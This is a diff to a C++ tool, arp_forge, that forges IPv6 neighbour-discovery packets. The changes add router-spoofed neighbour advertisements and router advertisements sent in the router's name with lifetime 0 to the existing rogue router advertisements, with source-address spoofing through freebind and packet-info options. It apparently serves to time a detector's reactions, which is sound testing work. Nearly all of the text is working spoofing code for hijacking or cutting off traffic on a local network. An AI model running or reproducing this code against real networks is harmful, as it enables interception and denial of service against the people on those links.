@@ -10,13 +10,17 @@
 //
 // Prints one line with the wall-clock time in microseconds for every reply sent.
 //
-//   arp_forge IFACE na ROUTER_IPV6 FAKE_MAC [COUNT [INTERVAL_MS]]
+//   arp_forge IFACE na|na-host ROUTER_IPV6 FAKE_MAC [COUNT [INTERVAL_MS]]
 //   arp_forge IFACE ra [COUNT [INTERVAL_MS]]
+//   arp_forge IFACE ra0 ROUTER_IPV6 FAKE_MAC [COUNT [INTERVAL_MS]]
 //
-// The IPv6 forms, to every node of the link from the attacker's own link-local address: an
-// unsolicited neighbour advertisement with the router and override flags that claims the router's
-// address for FAKE_MAC; a router advertisement that offers the attacker as a default router for
-// 30 minutes. Each prints the same lines.
+// The IPv6 forms, to every node of the link: an unsolicited neighbour advertisement with the
+// override flag that claims the router's address for FAKE_MAC, with the router flag (na) or
+// without it and in the router's name (na-host, the best-known attack suite's default: its source
+// address is the router's); a router advertisement from the
+// attacker's own link-local address that offers it as a default router for 30 minutes; a router
+// advertisement in the router's name (its source address) with lifetime 0 and FAKE_MAC as its
+// source link-layer address. Each prints the same lines.
 #include <arpa/inet.h>
 #include <chrono>
 #include <cstdint>
@@ -30,7 +34,12 @@
 #include <sys/ioctl.h>
 #include <sys/socket.h>
 #include <thread>
+
 #include <unistd.h>
+
+#ifndef IPV6_FREEBIND
+#define IPV6_FREEBIND 78
+#endif
 
 namespace {
 
@@ -55,18 +64,30 @@ void printSent() {
 // Neighbour discovery over a raw ICMPv6 socket, whose checksum the kernel fills in; its messages
 // count only with a hop limit of 255.
 int forgeNeighbourDiscovery(int argc, char** argv) {
-    const bool advertiseRouter = std::string(argv[2]) == "ra";
+    const std::string mode = argv[2];
+    const bool advertiseRouter = mode == "ra";
+    const bool withdraw = mode == "ra0";
+    // Sent in the router's name: its address as the source.
+    const bool spoofed = withdraw || mode == "na-host";
     const int first = advertiseRouter ? 3 : 5;
     unsigned char message[32] = {};
     std::size_t length = 0;
-    if (advertiseRouter) {
+    in6_addr source{};
+    if (advertiseRouter || withdraw) {
         message[0] = 134;
-        message[4] = 64;   // hop limit
-        message[6] = 0x07; // router lifetime 1800 s
-        message[7] = 0x08;
+        message[4] = 64; // hop limit
+        if (advertiseRouter) {
+            message[6] = 0x07; // router lifetime 1800 s
+            message[7] = 0x08;
+        }
         message[16] = 1; // source link-layer address option, filled in below
         message[17] = 1;
         length = 24;
+        if (withdraw && (argc < 5 || ::inet_pton(AF_INET6, argv[3], &source) != 1 ||
+                         !parseMac(argv[4], message + 18))) {
+            std::fprintf(stderr, "arp_forge: bad address\n");
+            return 2;
+        }
     } else {
         in6_addr router{};
         if (argc < 5 || ::inet_pton(AF_INET6, argv[3], &router) != 1 ||
@@ -74,8 +95,9 @@ int forgeNeighbourDiscovery(int argc, char** argv) {
             std::fprintf(stderr, "arp_forge: bad address\n");
             return 2;
         }
+        source = router;
         message[0] = 136;
-        message[4] = 0x80 | 0x20; // router, override
+        message[4] = mode == "na-host" ? 0x20 : 0x80 | 0x20; // (router,) override
         std::memcpy(message + 8, &router, 16);
         message[24] = 2; // target link-layer address option
         message[25] = 1;
@@ -97,6 +119,12 @@ int forgeNeighbourDiscovery(int argc, char** argv) {
     if (advertiseRouter) {
         std::memcpy(message + 18, request.ifr_hwaddr.sa_data, 6);
     }
+    // In the router's name: its address as the source, which is none of ours (freebind).
+    const int on = 1;
+    if (spoofed && ::setsockopt(fd, IPPROTO_IPV6, IPV6_FREEBIND, &on, sizeof on) != 0) {
+        std::perror("arp_forge: freebind");
+        return 1;
+    }
     const int hops = 255;
     const int index = static_cast<int>(::if_nametoindex(argv[1]));
     ::setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
@@ -109,7 +137,26 @@ int forgeNeighbourDiscovery(int argc, char** argv) {
         if (i > 0) {
             std::this_thread::sleep_for(std::chrono::milliseconds(intervalMs));
         }
-        if (::sendto(fd, message, length, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) < 0) {
+        alignas(cmsghdr) char control[CMSG_SPACE(sizeof(in6_pktinfo))] = {};
+        iovec data{message, length};
+        msghdr packet{};
+        packet.msg_name = &to;
+        packet.msg_namelen = sizeof to;
+        packet.msg_iov = &data;
+        packet.msg_iovlen = 1;
+        if (spoofed) {
+            packet.msg_control = control;
+            packet.msg_controllen = sizeof control;
+            cmsghdr* header = CMSG_FIRSTHDR(&packet);
+            header->cmsg_level = IPPROTO_IPV6;
+            header->cmsg_type = IPV6_PKTINFO;
+            header->cmsg_len = CMSG_LEN(sizeof(in6_pktinfo));
+            in6_pktinfo info{};
+            info.ipi6_addr = source;
+            info.ipi6_ifindex = static_cast<unsigned>(index);
+            std::memcpy(CMSG_DATA(header), &info, sizeof info);
+        }
+        if (::sendmsg(fd, &packet, 0) < 0) {
             std::perror("arp_forge: sendto");
             return 1;
         }
@@ -122,7 +169,8 @@ int forgeNeighbourDiscovery(int argc, char** argv) {
 } // namespace
 
 int main(int argc, char** argv) {
-    if (argc >= 3 && (std::string(argv[2]) == "na" || std::string(argv[2]) == "ra")) {
+    if (argc >= 3 && (std::string(argv[2]) == "na" || std::string(argv[2]) == "na-host" ||
+                      std::string(argv[2]) == "ra" || std::string(argv[2]) == "ra0")) {
         return forgeNeighbourDiscovery(argc, argv);
     }
     if (argc < 6) {
